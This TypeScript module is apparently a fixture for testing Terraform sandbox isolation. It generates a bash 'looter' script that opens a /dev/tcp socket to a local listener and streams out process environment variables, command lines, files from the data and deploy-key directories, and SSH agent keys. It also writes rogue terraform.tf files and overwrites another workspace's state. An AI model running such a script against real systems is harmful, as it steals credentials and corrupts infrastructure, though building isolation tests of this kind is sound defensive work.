/** The planted program: tells the thief that it ran, and everything it can find. */
import { dirname } from 'node:path';
import type { Prey } from './attack.ts';

/** What the thief hears of any program that ran, whether it found something or not. */
export const ran = 'it ran';

/** A bash script; as an external data source it answers with an empty object. */
export function looter(name: string, { thiefPort, dataDir, deployKeyFile, foreignState, markers }: Prey): string {
  return `exec 3<>/dev/tcp/127.0.0.1/${thiefPort} 2>/dev/null
printf '%s\\n' ${name} '${ran}' >&3
{
  for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' <"$file"; done
  for file in $(find ${dirname(dataDir)} ${dirname(deployKeyFile)} -type f -size -64k); do cat "$file"; done
  for socket in $(find ${dirname(dataDir)} -type s); do SSH_AUTH_SOCK=$socket timeout 2 ssh-add -L; done
  for directory in $(find ${dataDir} -maxdepth 3 -type d); do echo evil >"$directory/terraform.tf"; done
  echo evil >${foreignState}
  touch ${markers}/${name}
} >&3 2>/dev/null
echo '{}'
`;
}

/** As a Terraform data source that runs it. */
export const external = `data "external" "x" {
  program = ["bash", "\${path.module}/loot.sh"]
}
`;
